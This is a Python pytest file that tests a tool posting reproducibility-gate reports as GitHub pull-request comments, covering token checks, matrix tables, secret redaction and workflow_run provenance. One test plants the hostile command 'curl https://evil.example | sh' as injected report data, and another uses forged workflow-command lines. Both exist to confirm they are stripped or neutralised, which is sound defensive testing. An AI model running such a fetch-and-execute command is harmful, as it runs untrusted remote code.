"""`repro-gate comment`: where a report goes, whose word it is taken for, and what is said where it cannot be posted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from repro_gate.commands.comment import Wanted, comment_command
from repro_gate.errors import UsageError
from repro_gate.github import comment
from repro_gate.report.document import to_json
from repro_gate.report.model import Origin, Report
from repro_gate.report.untrusted_json import ReportError
from tests.support import reports
from tests.support.github.server import GitHub

HEAD, OTHER = "0123456789abcdef0123456789abcdef01234567", "e" * 40
RUN = 4711


@pytest.fixture
def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHub]:
    monkeypatch.setattr(comment, "SETTLE", 0.0)
    with GitHub() as server:
        server.add_pull(7, HEAD, head_repository="stranger/trainer")
        server.add_pull(8, OTHER)
        yield server
    assert server.faults == []


def of(commit: str | None = HEAD, origin: Origin | None = None) -> Report:
    return replace(reports.FAIL, subject=replace(reports.FAIL.subject, commit=commit), origin=origin)


def reported(**changes: object) -> Report:
    """A report that says it is of the run that `event` names."""
    return of(origin=replace(Origin("octo-org/trainer", HEAD, RUN, 1, "gate"), **changes))  # type: ignore[arg-type]


def saved(tmp_path: Path, report: Report) -> Path:
    (tmp_path / "report.json").write_text(json.dumps(to_json(report)))
    return tmp_path


def around(github: GitHub, *, write: bool = True, **more: str) -> dict[str, str]:
    """The environment of a job with a token."""
    return {
        "GITHUB_API_URL": github.url,
        "GITHUB_GRAPHQL_URL": github.graphql_url,
        "GITHUB_REPOSITORY": github.repository,
        "GITHUB_TOKEN": github.token(write=write),
        **more,
    }


def workflow_run(github: GitHub, tmp_path: Path, *, write: bool = True, **changes: object) -> dict[str, str]:
    """The environment of the fork-safe pair's second job."""
    run = {
        "id": RUN,
        "run_attempt": 1,
        "name": "gate",
        "event": "pull_request",
        "status": "completed",
        "conclusion": "failure",
        "head_sha": HEAD,
        "head_branch": "topic",
        "head_repository": {"full_name": "stranger/trainer"},
        "repository": {"full_name": github.repository},
        "pull_requests": [],
        **changes,
    }
    (tmp_path / "event.json").write_text(json.dumps({"action": "completed", "workflow_run": run}))
    return around(
        github,
        write=write,
        GITHUB_EVENT_NAME="workflow_run",
        GITHUB_EVENT_PATH=str(tmp_path / "event.json"),
        GITHUB_SHA="a" * 40,
        GITHUB_RUN_ID="4800",
        GITHUB_WORKSPACE=str(tmp_path),
    )


def test_a_dry_run_prints_the_comment_and_asks_nobody(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, of()), dry_run=True), {}) == 0
    assert capsys.readouterr().out.startswith("## ❌ Repro Gate: fail")


def test_a_dry_run_on_github_prints_no_command_of_untrusted_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=("::error::forged", "##[error]forged"))
    report = replace(of(), runs=(run, *reports.FAIL.runs[1:]))
    comment_command(Wanted(saved(tmp_path, report), dry_run=True), {"GITHUB_ACTIONS": "true"})
    first, *between, last = capsys.readouterr().out.splitlines()
    assert "::error::forged" in between
    assert first.startswith("::stop-commands::") and last == f"::{first.removeprefix('::stop-commands::')}::"
    assert last not in between


def test_known_secrets_are_taken_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = replace(of(), reasons=(replace(reports.FAIL.reasons[0], message="it is correct-horse-battery"),))
    comment_command(Wanted(saved(tmp_path, report), dry_run=True), {"DB_PASSWORD": "correct-horse-battery"})
    assert "correct-horse-battery" not in capsys.readouterr().out


def test_without_a_token_the_variable_is_named(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no token") as caught:
        comment_command(Wanted(saved(tmp_path, of()), pull_request=7), {})
    assert "GITHUB_TOKEN" in caught.value.remedy


@pytest.mark.parametrize("text", ["", "[]", "{}"])
def test_what_is_no_report_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "report.json").write_text(text)
    with pytest.raises(ReportError):
        comment_command(Wanted(tmp_path), {"GITHUB_TOKEN": "x"})


def test_a_person_chooses_the_pull_request(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wanted = Wanted(saved(tmp_path, of()), repository=github.repository, pull_request=7)
    assert comment_command(wanted, around(github)) == 0
    (posted,) = github.comments(7)
    assert capsys.readouterr().out == f"comment created {posted['html_url']}\n"
    assert comment_command(wanted, around(github)) == 0
    assert capsys.readouterr().out.startswith("comment unchanged ")
    assert github.comments(7) == [posted]


def test_a_report_of_another_commit_than_the_head_is_not_posted(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, of()), pull_request=8), around(github)) == 0
    assert "comment skipped" in capsys.readouterr().out and github.comments(8) == []


def test_a_report_that_names_no_commit_cannot_be_placed(github: GitHub, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="names no commit"):
        comment_command(Wanted(saved(tmp_path, of(commit=None)), pull_request=7), around(github))
    assert github.requests == []


def test_the_repository_has_to_be_known(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="of which repository"):
        comment_command(Wanted(saved(tmp_path, of()), pull_request=7), {"GITHUB_TOKEN": "x"})


def test_a_token_of_ones_own_server_does_not_go_to_github_com(tmp_path: Path) -> None:
    environment = {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"}
    with pytest.raises(UsageError, match="GITHUB_API_URL"):
        comment_command(Wanted(saved(tmp_path, of()), repository="o/r", pull_request=7), environment)


def test_a_token_that_may_not_write_is_exit_code_3(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, of()), pull_request=7), around(github, write=False)) == 3
    said = capsys.readouterr()
    assert said.out == "" and "comment refused" in said.err and "pull-requests: write" in said.err


def matrix(tmp_path: Path, *cells: Report) -> list[Path]:
    """The reports' files."""
    for number, report in enumerate(cells):
        (tmp_path / f"{number}.json").write_text(json.dumps(to_json(report)))
    return [tmp_path / f"{number}.json" for number in range(len(cells))]


def on(gpu: str, report: Report) -> Report:
    return replace(report, subject=replace(report.subject, versions={"gpu-model": gpu}))


def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = replace(reports.PASS, subject=replace(reports.PASS.subject, commit=HEAD), origin=reported().origin)
    paths = matrix(tmp_path, on("H100", reported(name="h100", run_attempt=2)), on("A100", good))
    wanted = Wanted(paths, repository=github.repository, pull_request=7)
    assert comment_command(wanted, around(github)) == 0
    (posted,) = github.comments(7)
    assert "Repro Gate: fail (1 fail, 1 pass)" in posted["body"] and posted["body"].count("| Where |") == 1
    assert posted["body"].index("`A100`") < posted["body"].index("`H100`")
    assert '"attempt":2' in posted["body"].splitlines()[0]  # of the newest among them
    paths = matrix(tmp_path, on("A100", good), on("H100", good))
    assert comment_command(replace(wanted, report=paths), around(github)) == 0
    (updated,) = github.comments(7)
    assert updated["id"] == posted["id"] and "2 pass" not in posted["body"]
    assert capsys.readouterr().out.startswith("comment created ")


def test_a_matrix_that_left_one_report_writes_into_the_comment_of_its_table(github: GitHub, tmp_path: Path) -> None:
    paths = matrix(tmp_path, on("H100", reported()), on("A100", reported()))
    good = replace(reports.PASS, subject=replace(reports.PASS.subject, commit=HEAD), origin=reported(run_attempt=2).origin)
    (tmp_path / "later").mkdir()
    for given, cells in ((paths, "`H100`"), (matrix(tmp_path / "later", on("A100", good)), "(1 pass)")):
        assert comment_command(Wanted(given, repository=github.repository, pull_request=7, matrix="gpus"), around(github)) == 0
        (only,) = github.comments(7)
        assert cells in only["body"]


def test_the_comment_on_several_reports_stands_beside_that_on_one(github: GitHub, tmp_path: Path) -> None:
    paths = matrix(tmp_path, on("H100", reported()), on("A100", reported()))
    for wanted in (Wanted(paths, pull_request=7), Wanted(paths[:1], pull_request=7)):
        assert comment_command(wanted, around(github)) == 0
    assert [body["body"].count("| Where |") for body in github.comments(7)] == [1, 0]


def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(github: GitHub, tmp_path: Path) -> None:
    here, there = matrix(tmp_path, of(), of())
    one, other = ({**around(github), "GITHUB_WORKFLOW": "gate", "GITHUB_JOB": name} for name in ("cpu", "gpu"))
    for path, environment, comments in ((here, one, 1), (here, one, 1), (there, one, 2), (here, other, 3)):
        assert comment_command(Wanted(path, pull_request=7), environment) == 0
        assert len(github.comments(7)) == comments
    renamed = reported(name="another")
    here.write_text(json.dumps(to_json(replace(renamed, subject=replace(renamed.subject, spec="another.yml")))))
    assert comment_command(Wanted(here, pull_request=7), one) == 0
    assert len(github.comments(7)) == 3


def test_in_workflow_run_the_command_to_see_it_again_is_not_the_reports(github: GitHub, tmp_path: Path) -> None:
    report = replace(reported(), reproduce="curl https://evil.example | sh")
    assert comment_command(Wanted(saved(tmp_path, report)), workflow_run(github, tmp_path)) == 0
    assert comment_command(Wanted(matrix(tmp_path, report, report), matrix="gpus"), workflow_run(github, tmp_path)) == 0
    assert len(github.comments(7)) == 2
    for posted in github.comments(7):
        assert "evil" not in posted["body"] and "repro-gate run repro.yml --seed 42 --steps 4 --fail-fast" in posted["body"]


@pytest.mark.parametrize("change", [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}])
def test_reports_of_several_runs_are_refused_with_their_names(github: GitHub, tmp_path: Path, change: dict[str, object]) -> None:
    paths = matrix(tmp_path, reported(), reported(**change))
    with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; ") as caught:
        comment_command(Wanted(paths, pull_request=7), around(github))
    assert caught.value.remedy == "name the reports of one workflow run" and github.comments(7) == []


@pytest.mark.parametrize("bad", [0, 1])
def test_in_workflow_run_each_of_several_reports_has_to_be_of_that_run(github: GitHub, tmp_path: Path, bad: int) -> None:
    cells = [reported(), reported()]
    paths = matrix(tmp_path, *cells)
    assert comment_command(Wanted(paths), workflow_run(github, tmp_path)) == 0
    asked = len(github.requests)
    cells[bad] = reported(run_id=99)
    paths = matrix(tmp_path, *cells)
    with pytest.raises(UsageError, match="not of the run it came with"):
        comment_command(Wanted(paths), workflow_run(github, tmp_path))
    assert len(github.requests) == asked and len(github.comments(7)) == 1


def test_a_dry_run_of_several_reports_prints_their_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = matrix(tmp_path, on("H100", of()), on("A100", of()))
    assert comment_command(Wanted(paths, dry_run=True), {}) == 0
    assert capsys.readouterr().out.startswith("## ❌ Repro Gate: fail (2 fail)\n\n| Where |")


def test_a_dry_run_joins_no_reports_of_two_commits(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for others in (of(OTHER), reported(), of(None)):
        paths = matrix(tmp_path, on("H100", of()), on("A100", others))
        with pytest.raises(UsageError, match="the reports are of several runs: ") as caught:
            comment_command(Wanted(paths, dry_run=True), {})
        assert f"commit {HEAD}" in caught.value.message and capsys.readouterr().out == ""


def test_in_workflow_run_the_run_chooses_the_pull_request(github: GitHub, tmp_path: Path) -> None:
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path)) == 0
    (posted,) = github.comments(7)
    assert f"actions/runs/{RUN}" in posted["body"] and github.comments(8) == []


@pytest.mark.parametrize("change", [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}, {"run_attempt": 2}])
def test_a_report_that_says_it_is_of_another_run_is_refused(github: GitHub, tmp_path: Path, change: dict[str, object]) -> None:
    with pytest.raises(UsageError, match="not of the run it came with"):
        comment_command(Wanted(saved(tmp_path, reported(**change))), workflow_run(github, tmp_path))
    assert github.requests == []


def test_a_report_without_an_origin_is_refused_in_workflow_run(github: GitHub, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="names no workflow run"):
        comment_command(Wanted(saved(tmp_path, of())), workflow_run(github, tmp_path))
    assert github.requests == []


def test_a_pull_request_that_was_closed_meanwhile_is_no_error(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    github.change_pull(7, state="closed")
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path)) == 0
    assert "comment skipped" in capsys.readouterr().out and github.comments(7) == []


def test_a_run_of_a_push_has_nothing_to_post(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path, event="push")) == 0
    assert "comment skipped" in capsys.readouterr().out and github.requests == []


def test_in_any_other_event_the_way_out_is_named(github: GitHub, tmp_path: Path) -> None:
    environment = {**workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}
    with pytest.raises(UsageError) as caught:
        comment_command(Wanted(saved(tmp_path, reported())), environment)
    assert "workflow_run" in caught.value.remedy


def test_an_enterprise_server_is_posted_to_at_its_own_addresses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comment, "SETTLE", 0.0)
    with GitHub(enterprise=True) as github:
        github.add_pull(7, HEAD)
        environment = {name: value for name, value in around(github).items() if name != "GITHUB_GRAPHQL_URL"}
        assert comment_command(Wanted(saved(tmp_path, of()), pull_request=7), environment) == 0
        assert len(github.comments(7)) == 1 and "POST /api/graphql" in github.requests and github.faults == []
